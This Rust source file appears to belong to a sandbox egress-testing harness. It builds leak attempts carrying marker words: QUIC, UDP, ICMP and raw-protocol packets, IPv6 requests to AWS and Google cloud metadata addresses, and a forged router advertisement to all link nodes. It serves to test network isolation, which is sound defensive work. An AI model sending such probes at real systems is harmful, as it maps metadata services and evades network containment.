//! Attacks by what is neither TCP nor a query: other datagrams, other protocols, IPv6.

use std::net::{Ipv4Addr, Ipv6Addr};

use sandglass_proto::leak::Leak;

use super::super::yard::{STRANGER, UPSTREAM};
use super::aim::{Aim, Step};
use super::frame::{ICMP, SCTP, UDP, UDP_LITE, V4, datagram_v6, echo, icmp_v6, sctp};

/// NTP, SNMP, IKE and its NAT traversal, OpenVPN, STUN, WireGuard, and a port without a name.
const PORTS: [u16; 8] = [123, 161, 500, 4500, 1194, 3478, 51820, 9];

/// Messages of ICMPv6 (RFC 4443, RFC 4861), and who hears the second.
const ECHO: u8 = 128;
const ROUTER_ADVERTISEMENT: u8 = 134;
const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);

pub(super) fn quic(aim: &mut Aim<'_>) -> Vec<Step> {
    let mut attacks = Vec::new();
    for to in [UPSTREAM, STRANGER] {
        for port in [443, 80] {
            let word = aim.word(format!("QUIC to {to}, port {port}"));
            // A long header of version 1 for an Initial packet (RFC 9000, 17.2), as long as it must be.
            let mut packet = [&[0xc3, 0, 0, 0, 1, 8][..], &[7; 8], &[0], word.as_bytes()].concat();
            packet.resize(1200, 0);
            attacks.push(Leak::Udp { to: format!("{to}:{port}"), send: packet });
        }
    }
    vec![Step::Inside(attacks)]
}

pub(super) fn udp(aim: &mut Aim<'_>) -> Vec<Step> {
    let targets = [UPSTREAM, STRANGER].into_iter().flat_map(|to| PORTS.map(|port| format!("{to}:{port}")));
    let targets: Vec<String> = targets.collect();
    vec![Step::Inside(targets.iter().map(|to| aim.datagram(to)).collect())]
}

pub(super) fn icmp(aim: &mut Aim<'_>) -> Vec<Step> {
    let targets = [UPSTREAM, STRANGER, Ipv4Addr::new(169, 254, 169, 254)];
    let inside = targets.map(|to| Leak::Ping { to, send: aim.word(format!("a ping of {to}")).into_bytes() });
    let on_link = targets.map(|to| {
        let word = aim.word(format!("a ping of {to}, on the link"));
        V4::to(to, ICMP).frame(&echo(word.as_bytes()))
    });
    vec![Step::Inside(inside.to_vec()), Step::OnLink(on_link.to_vec())]
}

/// IPIP, GRE, ESP, SCTP, UDP-Lite, and a protocol for experiments. Inside, raw sockets are tried as well.
pub(super) fn protocols(aim: &mut Aim<'_>) -> Vec<Step> {
    let mut inside = Vec::new();
    let mut frames = Vec::new();
    for protocol in [4, 47, 50, SCTP, UDP_LITE, 253] {
        let word = aim.word(format!("protocol {protocol} of IP"));
        let packet = V4::to(UPSTREAM, protocol);
        let payload = match protocol {
            // A packet in a packet.
            4 => V4::to(STRANGER, UDP).datagram(9, word.as_bytes()).split_off(14),
            // Without options, for IPv4.
            47 => [&[0, 0, 8, 0][..], word.as_bytes()].concat(),
            SCTP => sctp(word.as_bytes()),
            UDP_LITE => packet.udp(9, word.as_bytes()),
            _ => [&[0, 0, 0, 1, 0, 0, 0, 1][..], word.as_bytes()].concat(),
        };
        frames.push(packet.frame(&payload));
        inside.push(Leak::Raw { to: UPSTREAM, protocol, send: payload });
    }
    vec![Step::Inside(inside), Step::OnLink(frames)]
}

/// Metadata services of AWS, of Google, and behind NAT64; a server; all nodes of the link, as their router. A guest has no address of
/// IPv6, so only its kernel could try.
pub(super) fn ipv6(aim: &mut Aim<'_>) -> Vec<Step> {
    let targets = [
        Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254),
        Ipv6Addr::new(0xfd20, 0xce, 0, 0, 0, 0, 0, 0x254),
        Ipv6Addr::new(0x64, 0xff9b, 0, 0, 0, 0, 0xa9fe, 0xa9fe),
        Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x66),
    ];
    let mut frames: Vec<Vec<u8>> = targets
        .iter()
        .map(|to| {
            let word = aim.word(format!("UDP to {to}, on the link"));
            datagram_v6(*to, 80, word.as_bytes())
        })
        .collect();
    let word = aim.word("a ping over IPv6, on the link");
    frames.push(icmp_v6(targets[3], ECHO, &[&[0, 0, 0, 1], word.as_bytes()].concat()));
    let word = aim.word("an advertisement as a router, on the link");
    // For no time, with no prefix; what follows is no option.
    let body = [&[64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0][..], word.as_bytes()].concat();
    frames.push(icmp_v6(ALL_NODES, ROUTER_ADVERTISEMENT, &body));
    let inside = targets.map(|to| Leak::Tcp {
        to: format!("[{to}]:80"),
        send: b"GET / HTTP/1.0\r\n\r\n".to_vec(),
        one_by_one: false,
    });
    vec![Step::Inside(inside.to_vec()), Step::OnLink(frames)]
}
